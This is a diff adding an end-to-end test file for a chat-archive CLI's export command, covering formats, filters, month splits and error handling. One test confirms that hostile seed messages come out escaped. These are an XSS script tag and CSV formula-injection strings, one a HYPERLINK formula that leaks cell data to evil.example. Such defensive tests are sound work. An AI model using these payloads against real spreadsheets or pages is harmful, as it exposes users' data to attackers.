@@ -1,0 +1,145 @@
+/**
+ * tim-archive export as a user runs it: a real `tim-archive pull` from the simulator over
+ * 127.0.0.1, then real child processes of `tim-archive export` on the file it wrote.
+ */
+import { spawn } from 'node:child_process'
+import { existsSync } from 'node:fs'
+import { appendFile, copyFile, mkdtemp, readFile, readdir, rm } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join, resolve } from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { demoApp, demoCredentials, demoGroupIds } from '../../src-main/sim/seed'
+import { Simulator } from '../../src-main/sim/server'
+import { freshAppId } from '../helpers/sim'
+
+const cli = resolve(__dirname, '../../out/main/cli.js')
+const appId = freshAppId()
+let dir: string
+let sim: Simulator
+let url: string
+let archive: string
+let pulledLines: string[]
+
+async function run(args: string[], extraEnv: Record<string, string> = {}): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  const env: NodeJS.ProcessEnv = { PATH: process.env.PATH, TIM_SDKAPPID: String(appId), TIM_IDENTIFIER: demoCredentials.identifier, TIM_SECRET_KEY: demoCredentials.secretKey, TIM_ENDPOINT: url, ...extraEnv }
+  const child = spawn(process.execPath, [cli, ...args], { env, stdio: ['ignore', 'pipe', 'pipe'] })
+  let stdout = ''
+  let stderr = ''
+  child.stdout.on('data', (d) => (stdout += d))
+  child.stderr.on('data', (d) => (stderr += d))
+  const code = await new Promise<number | null>((r) => child.on('close', (c) => r(c)))
+  return { code, stdout, stderr }
+}
+
+beforeAll(async () => {
+  if (!existsSync(cli)) throw new Error('out/main/cli.js is missing: run `npm run build` first (npm test does).')
+  dir = await mkdtemp(join(tmpdir(), 'tim-cli-export-'))
+  const app = demoApp({ benchMessages: 2000, now: Date.UTC(2026, 0, 15) / 1000 })
+  sim = new Simulator({ apps: [{ ...app, sdkAppId: appId }], latencyMs: 2 })
+  url = (await sim.start()).url
+  archive = join(dir, 'demo.jsonl')
+  const r = await run(['pull', '--group', demoGroupIds.team, '--group', demoGroupIds.bench, '--group', demoGroupIds.custom, '--out', archive])
+  expect(r.code, r.stderr).toBe(0)
+  pulledLines = (await readFile(archive, 'utf8')).split('\n').filter(Boolean)
+}, 120_000)
+
+afterAll(async () => {
+  await sim?.stop()
+  await rm(dir, { recursive: true, force: true })
+})
+
+describe('tim-archive export', () => {
+  it('round trip: pull, export as JSON Lines, and get exactly the same messages, in order', async () => {
+    const out = join(dir, 'round.jsonl')
+    const r = await run(['export', '--in', archive, '--format', 'jsonl', '--out', out])
+    expect(r.code, r.stderr).toBe(0)
+    expect(r.stderr).toContain(`exported ${pulledLines.length.toLocaleString('en-US')} messages`)
+    const exported = (await readFile(out, 'utf8')).split('\n').filter(Boolean)
+    // The same lines, byte for byte (the pull file is in commit order; the export in seq order).
+    expect([...exported].sort()).toEqual([...pulledLines].sort())
+    for (let i = 1; i < exported.length; i++) {
+      const a = JSON.parse(exported[i - 1]!) as { GroupId: string; MsgSeq: number }
+      const b = JSON.parse(exported[i]!) as { GroupId: string; MsgSeq: number }
+      if (a.GroupId === b.GroupId) expect(b.MsgSeq).toBeGreaterThan(a.MsgSeq)
+    }
+    // And the export re-exports to itself: it is a valid pull file.
+    const again = join(dir, 'again.jsonl')
+    expect((await run(['export', '--in', out, '--format', 'jsonl', '--out', again])).code).toBe(0)
+    expect(await readFile(again, 'utf8')).toBe(await readFile(out, 'utf8'))
+  })
+
+  it('JSON holds the same records with the export metadata', async () => {
+    const out = join(dir, 'all.json')
+    const r = await run(['export', '--in', archive, '--format', 'json', '--out', out, '--time-zone', 'Asia/Shanghai'])
+    expect(r.code, r.stderr).toBe(0)
+    const doc = JSON.parse(await readFile(out, 'utf8')) as { export: Record<string, unknown>; messages: unknown[]; count: number }
+    expect(doc.count).toBe(pulledLines.length)
+    expect(doc.export).toMatchObject({ app: 'tim-archive', timeZone: 'Asia/Shanghai', count: pulledLines.length, query: '' })
+    expect(doc.messages.map((m) => JSON.stringify(m)).sort()).toEqual([...pulledLines].sort())
+  })
+
+  it('I can export only one group, one sender and a date range', async () => {
+    const out = join(dir, 'alice.jsonl')
+    const r = await run(['export', '--in', archive, '--format', 'jsonl', '--out', out, '--group', demoGroupIds.team, '--query', 'from:alice', '--after', '2025-11-30', '--before', '2026-01-01'])
+    expect(r.code, r.stderr).toBe(0)
+    const lines = (await readFile(out, 'utf8')).split('\n').filter(Boolean).map((l) => JSON.parse(l) as { GroupId: string; From_Account: string; MsgTimeStamp: number })
+    const expected = pulledLines
+      .map((l) => JSON.parse(l) as { GroupId: string; From_Account: string; MsgTimeStamp: number })
+      .filter((m) => m.GroupId === demoGroupIds.team && m.From_Account === 'alice' && m.MsgTimeStamp >= Date.UTC(2025, 11, 1) / 1000 && m.MsgTimeStamp < Date.UTC(2026, 0, 1) / 1000)
+    expect(expected.length).toBeGreaterThan(5)
+    expect(lines.length).toBe(expected.length)
+    for (const m of lines) expect(m.From_Account).toBe('alice')
+  })
+
+  it('every format is written, and the hostile seed texts stay inert', async () => {
+    for (const format of ['html', 'csv', 'txt', 'md']) {
+      const out = join(dir, `team.${format}`)
+      const r = await run(['export', '--in', archive, '--format', format, '--out', out, '--group', demoGroupIds.team])
+      expect(r.code, r.stderr).toBe(0)
+    }
+    const html = await readFile(join(dir, 'team.html'), 'utf8')
+    expect(html.match(/<script/g)?.length).toBe(1)
+    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
+    expect(html).not.toMatch(/href="(?!https?:)/)
+    const csv = await readFile(join(dir, 'team.csv'), 'utf8')
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for bonus"")"`)
+    expect(csv).toContain(`'@SUM(A1:A10)`)
+    expect(csv).toContain(`"'\t=1+1\r\n=2+2"`)
+  })
+
+  it('a month split writes a folder of parts with an index', async () => {
+    const out = join(dir, 'months')
+    const r = await run(['export', '--in', archive, '--format', 'html', '--out', out, '--split', 'month', '--group', demoGroupIds.team])
+    expect(r.code, r.stderr).toBe(0)
+    const files = (await readdir(out)).sort()
+    expect(files).toContain('index.html')
+    expect(files.filter((f) => /^\d{4}-\d\d\.html$/.test(f)).length).toBeGreaterThanOrEqual(2)
+  })
+
+  it('a torn last line is skipped and reported; the rest is exported', async () => {
+    const torn = join(dir, 'torn.jsonl')
+    await copyFile(archive, torn)
+    await appendFile(torn, '{"GroupId":"@TGS#1DEMOTEAM","MsgSeq":99')
+    const out = join(dir, 'torn-out.jsonl')
+    const r = await run(['export', '--in', torn, '--format', 'jsonl', '--out', out])
+    expect(r.code, r.stderr).toBe(0)
+    expect(r.stderr).toContain(`skipped 1 line(s) that are not records (line ${pulledLines.length + 1})`)
+    expect((await readFile(out, 'utf8')).split('\n').filter(Boolean).length).toBe(pulledLines.length)
+  })
+
+  it('a bad query is a usage error that names the problem and where it is, and writes nothing', async () => {
+    const out = join(dir, 'never.csv')
+    const r = await run(['export', '--in', archive, '--format', 'csv', '--out', out, '--query', 'from:alice has:imagez'])
+    expect(r.code).toBe(2)
+    expect(r.stderr).toContain('has:imagez is not something a message can have')
+    expect(r.stderr).toContain('(at character 16)')
+    expect(existsSync(out)).toBe(false)
+    const bad = await run(['export', '--in', archive, '--format', 'pdf', '--out', out])
+    expect(bad.code).toBe(2)
+    expect(bad.stderr).toContain('--format pdf is not a format')
+    const date = await run(['export', '--in', archive, '--format', 'csv', '--out', out, '--after', '2024-13-01'])
+    expect(date.code).toBe(2)
+    expect(date.stderr).toContain('--after: "2024-13-01" is not a date')
+    expect((await run(['export', '--format', 'csv', '--out', out])).code).toBe(2)
+  })
+})
